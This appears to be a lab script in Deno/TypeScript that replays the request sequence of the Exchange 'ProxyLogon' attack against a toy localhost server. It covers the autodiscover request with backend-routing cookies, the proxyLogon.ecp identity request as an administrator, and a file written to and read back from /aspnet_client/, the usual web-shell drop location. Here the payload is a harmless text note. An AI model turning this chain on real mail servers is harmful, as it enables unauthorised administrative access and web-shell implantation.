// Deno (TypeScript) port of the lab request chain (toy server on 127.0.0.1 only).
// A WHATWG `Headers` object lower-cases every name it holds, so the wire shows no case.
const port: string = Deno.args[0] ?? "8080";
const base = `http://127.0.0.1:${port}`;
const AGENT: string =
  "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
const NOTE = "/aspnet_client/system_web/readme_91453.txt";

function browser(): Headers {
  const h = new Headers();
  h.append("User-Agent", AGENT);
  h.append("x-requested-with", "XMLHttpRequest");
  h.append("Accept", "*/*");
  h.append("accept-language", "en-US,en;q=0.9");
  h.append("connection", "close");
  return h;
}

async function send(path: string, init: RequestInit): Promise<[number, string]> {
  const res = await fetch(base + path, { ...init, signal: AbortSignal.timeout(10_000) });
  return [res.status, (await res.text()).slice(0, 1024)];
}

const first = browser();
first.append(
  "cookie",
  "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
);
const query = new URLSearchParams([
  ["Pad", "A".repeat(37)],
  ["Protocol", "Autodiscoverv1"],
  ["Email", "administrator@lab.invalid/mapi/nspi"],
  ["RequestId", "20200302-7720"],
]);
const [code] = await send(`/autodiscover/autodiscover.json?${query}`, { headers: first });
if (code >= 500) Deno.exit(1);

const idHeaders = new Headers([
  ["user-agent", AGENT],
  ["msexchlogonmailbox", "S-1-5-20"],
  ["content-type", "application/json"],
  ["X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp"],
]);
const [status, text] = await send("/ecp/proxyLogon.ecp", {
  method: "POST",
  headers: idHeaders,
  body: JSON.stringify({ mailbox: "administrator@lab.invalid", requestKind: "identity", seq: 1 }).replaceAll('":', '": ').replaceAll(',"', ', "'),
});
const who: string = (status === 200 && text.trim()) || "anonymous";

const note = [1, 2, 3].map((i: number) => `note ${i} of 3 for ${who}`).join("\n");
await send(NOTE, {
  method: "POST",
  headers: new Headers({ "user-agent": AGENT, "X-Note-Path": NOTE, "Content-Type": "text/plain" }),
  body: note,
});
const [, back] = await send(NOTE, { headers: browser() });
console.log(back.length);
